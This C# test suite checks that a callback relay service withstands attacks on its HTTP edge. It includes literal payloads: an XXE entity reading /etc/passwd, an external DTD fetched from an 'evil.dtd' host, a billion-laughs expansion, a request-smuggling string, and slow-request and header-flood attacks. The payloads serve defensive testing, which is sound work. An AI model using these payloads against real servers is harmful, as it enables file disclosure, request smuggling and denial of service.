using System.Net;
using System.Net.Http.Headers;
using System.Text;
using Relay.Infrastructure;

namespace Relay.Security;

/// <summary>
/// Requests that attack the edge. Each gets its documented answer; Relay stays healthy; nothing is
/// published for a refused request, and an accepted one is published exactly as documented.
/// </summary>
public sealed class EdgeSecurityTests : IAsyncLifetime
{
    private RelayServer _relay = null!;
    private EventQueue _queue = null!;

    public async Task InitializeAsync()
    {
        _relay = await RelayServer.StartAsync(settings =>
        {
            settings["Kestrel:Limits:RequestHeadersTimeout"] = "00:00:02";
            settings["Kestrel:Limits:MinRequestBodyDataRate:BytesPerSecond"] = "100";
            settings["Kestrel:Limits:MinRequestBodyDataRate:GracePeriod"] = "00:00:02";
            settings["Kestrel:Limits:MaxRequestHeaderCount"] = "64";
        });
        _queue = await EventQueue.BindAsync(_relay.Exchange);
    }

    public async Task DisposeAsync()
    {
        await _queue.DisposeAsync();
        await _relay.DisposeAsync();
    }

    [Theory]
    [InlineData("GET", "X-HTTP-Method-Override", "POST", HttpStatusCode.MethodNotAllowed)]
    [InlineData("GET", "X-HTTP-Method", "POST", HttpStatusCode.MethodNotAllowed)]
    [InlineData("GET", "X-Method-Override", "POST", HttpStatusCode.MethodNotAllowed)]
    [InlineData("POST", "X-HTTP-Method-Override", "DELETE", HttpStatusCode.OK)]
    public async Task MethodOverrideHeaders_AreIgnored(string method, string header, string value, HttpStatusCode expected)
    {
        using var client = _relay.CreateClient();
        using var request = new HttpRequestMessage(new HttpMethod(method), _relay.CallbackPath);
        request.Headers.Add(header, value);
        if (method == "POST")
        {
            request.Content = new StringContent(CallbackForms.Success(), Encoding.UTF8, "application/x-www-form-urlencoded");
        }

        using var response = await client.SendAsync(request);

        Assert.Equal(expected, response.StatusCode);
        if (expected == HttpStatusCode.OK)
        {
            Assert.Equal("callback.ok", (await _queue.ReceiveAsync()).RoutingKey);
        }
        else
        {
            await _queue.AssertEmptyAsync();
        }
    }

    [Fact]
    public async Task SlowHeaders_ConnectionIsClosed()
    {
        await using var raw = await RawTls.ConnectAsync(_relay.PublicUri, _relay.Certificate.Certificate);
        await raw.SendAsync($"POST {_relay.CallbackPath} HTTP/1.1\r\nHost: localhost\r\n");

        var (_, closed) = await raw.ReadToCloseAsync(TimeSpan.FromSeconds(10));

        Assert.True(closed, "a request whose headers never finish must be cut after Kestrel:Limits:RequestHeadersTimeout");
        await _queue.AssertEmptyAsync();
    }

    [Fact]
    public async Task SlowBody_ConnectionIsClosedAndNothingIsPublished()
    {
        await using var raw = await RawTls.ConnectAsync(_relay.PublicUri, _relay.Certificate.Certificate);
        await raw.SendAsync($"POST {_relay.CallbackPath} HTTP/1.1\r\nHost: localhost\r\n" +
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 5000\r\n\r\nRequestID=");
        var trickle = Task.Run(async () =>
        {
            try
            {
                for (int i = 0; i < 40; i++)
                {
                    await Task.Delay(250);
                    await raw.SendAsync("x");
                }
            }
            catch (Exception ex) when (ex is IOException or ObjectDisposedException)
            {
                // The server cut the connection: what this test waits for.
            }
        });

        var (_, closed) = await raw.ReadToCloseAsync(TimeSpan.FromSeconds(12));

        Assert.True(closed, "a body slower than Kestrel:Limits:MinRequestBodyDataRate must be cut");
        await trickle;
        await _queue.AssertEmptyAsync();
    }

    [Fact]
    public async Task ConflictingContentLengthAndTransferEncoding_CannotSmuggleASecondRequest()
    {
        await using var raw = await RawTls.ConnectAsync(_relay.PublicUri, _relay.Certificate.Certificate);
        string smuggled = $"POST {_relay.CallbackPath} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 20\r\n\r\nRequestID=smuggled-1";
        string body = "RequestID=first";
        await raw.SendAsync($"POST {_relay.CallbackPath} HTTP/1.1\r\nHost: localhost\r\n" +
            "Content-Type: application/x-www-form-urlencoded\r\n" +
            $"Content-Length: {body.Length}\r\nTransfer-Encoding: chunked\r\n\r\n" +
            $"{body.Length:x}\r\n{body}\r\n0\r\n\r\n" + smuggled);

        var (text, closed) = await raw.ReadToCloseAsync(TimeSpan.FromSeconds(5));

        // RFC 9112: Transfer-Encoding wins and the connection is closed after the answer, so the request
        // hidden behind the body is never read as a second one.
        Assert.True(closed);
        Assert.StartsWith("HTTP/1.1 200", text, StringComparison.Ordinal);
        Assert.Contains("Connection: close", text, StringComparison.OrdinalIgnoreCase);
        Assert.Single(text.Split("HTTP/1.1 ", StringSplitOptions.RemoveEmptyEntries));
        using (var json = (await _queue.ReceiveAsync()).Json())
        {
            Assert.Equal("first", json.RootElement.GetProperty("subject").GetString());
        }

        await _queue.AssertEmptyAsync();
    }

    [Theory]
    [InlineData("<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><Result><StatusCode>&x;</StatusCode></Result>")]
    [InlineData("<!DOCTYPE r SYSTEM \"http://198.51.100.7/evil.dtd\"><Result><StatusCode>OK</StatusCode></Result>")]
    [InlineData("<!DOCTYPE l [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">]><Result><StatusCode>&c;</StatusCode></Result>")]
    public async Task HostileResultDetailXml_IsRefusedByTheParser_AndTheCallbackStillPublished(string xml)
    {
        using var response = await _relay.PostCallbackAsync(CallbackForms.Encode(("RequestID", "xml-attack"), ("OverallStatusCode", "OK"), ("ResultDetailXML", xml)));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var message = await _queue.ReceiveAsync();
        using var json = message.Json();
        var data = json.RootElement.GetProperty("data");
        Assert.Equal(System.Text.Json.JsonValueKind.Null, data.GetProperty("results").ValueKind);
        Assert.Contains("DTD", data.GetProperty("resultDetailError").GetString(), StringComparison.Ordinal);
        Assert.Equal(xml, data.GetProperty("resultDetailXml").GetString());
        Assert.DoesNotContain("root:", Encoding.UTF8.GetString(message.Body), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("RequestID=ok&StatusMessage=100%", "the form has a '%' that is not followed by two hexadecimal digits")]
    [InlineData("RequestID=ok&StatusMessage=%zz", "the form has a '%' that is not followed by two hexadecimal digits")]
    [InlineData("RequestID=a&RequestID=b", "the field RequestID appears more than once with different values")]
    [InlineData("RequestID=%C3%28", "the form has a name or value that is not UTF-8")]
    public async Task MalformedForms_AreAcceptedAsInvalidWithTheirRawBody(string form, string reason)
    {
        using var response = await _relay.PostCallbackAsync(form);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var message = await _queue.ReceiveAsync();
        Assert.Equal("callback.invalid", message.RoutingKey);
        using var json = message.Json();
        Assert.Equal(reason, json.RootElement.GetProperty("data").GetProperty("invalidReason").GetString());
        Assert.Equal(form, json.RootElement.GetProperty("data").GetProperty("rawBody").GetString());
    }

    [Fact]
    public async Task BytesThatAreNotUtf8_AreKeptAsBase64()
    {
        byte[] body = [.. "RequestID=caf"u8.ToArray(), 0xE9, .. "&OverallStatusCode=OK"u8.ToArray()];
        using var client = _relay.CreateClient();
        var content = new ByteArrayContent(body);
        content.Headers.ContentType = new MediaTypeHeaderValue("application/x-www-form-urlencoded");

        using var response = await client.PostAsync(_relay.CallbackPath, content);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var json = (await _queue.ReceiveAsync()).Json();
        var data = json.RootElement.GetProperty("data");
        Assert.Equal("base64", data.GetProperty("rawBodyEncoding").GetString());
        Assert.Equal(body, data.GetProperty("rawBody").GetBytesFromBase64());
    }

    [Fact]
    public async Task DuplicatedFieldWithTheSameValue_IsAValidCallback()
    {
        using var response = await _relay.PostCallbackAsync("RequestID=same&RequestID=same&OverallStatusCode=OK");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("callback.ok", (await _queue.ReceiveAsync()).RoutingKey);
    }

    [Fact]
    public async Task ThousandsOfFields_AreReadWithoutEffort()
    {
        var form = new StringBuilder(CallbackForms.Success("many-fields"));
        for (int i = 0; i < 20_000; i++)
        {
            form.Append("&extra").Append(i).Append("=v");
        }

        using var response = await _relay.PostCallbackAsync(form.ToString());

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var json = (await _queue.ReceiveAsync()).Json();
        Assert.Equal("many-fields", json.RootElement.GetProperty("subject").GetString());
    }

    [Fact]
    public async Task TooManyHeaders_Is431AndPublishesNothing()
    {
        using var client = _relay.CreateClient();
        using var request = new HttpRequestMessage(HttpMethod.Post, _relay.CallbackPath)
        {
            Content = new StringContent(CallbackForms.Success(), Encoding.UTF8, "application/x-www-form-urlencoded"),
        };
        for (int i = 0; i < 100; i++)
        {
            request.Headers.Add($"X-Padding-{i}", "x");
        }

        using var response = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.RequestHeaderFieldsTooLarge, response.StatusCode);
        await _queue.AssertEmptyAsync();
    }
}
